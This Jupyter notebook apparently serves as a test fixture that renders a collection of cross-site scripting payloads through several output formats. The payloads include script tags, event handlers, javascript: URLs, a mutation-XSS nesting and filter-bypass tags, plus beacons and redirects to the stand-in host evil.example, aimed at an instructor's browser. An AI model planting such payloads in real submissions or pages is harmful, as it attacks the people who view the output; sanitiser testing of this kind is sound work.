# %% [markdown]
# Displays HTML with scripts, event handlers, frames, forms and links that run code, aimed at the instructor's browser.

# %% first
from IPython.display import display

HTML = """<script>alert('pwned-__TOKEN__')</script><img src=x onerror="alert('pwned-__TOKEN__')">
<svg onload="alert('pwned-__TOKEN__')"><script>alert(1)</script><animate onbegin="alert(1)" attributeName=x dur=1s></svg>
<iframe src="javascript:alert('pwned-__TOKEN__')"></iframe><a href="javascript:alert('pwned-__TOKEN__')">click</a>
<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel=stylesheet href="https://evil.example/a.css">
<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><details open ontoggle="alert(1)">x</details>
<div style="background:url(https://evil.example/b.png)">x</div><img src="https://evil.example/beacon.png">
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<scr<script>ipt>alert(1)</scr</script>ipt><style>@import url(https://evil.example/c.css);</style>"""
display({"text/html": HTML, "text/plain": HTML}, raw=True)
display({"text/html": HTML}, raw=True)
display({"text/markdown": HTML + "\n[click](javascript:alert(1)) ![x](https://evil.example/beacon.png)"}, raw=True)
display({"text/latex": "$\\href{javascript:alert(1)}{click}$" + HTML}, raw=True)
print(HTML)
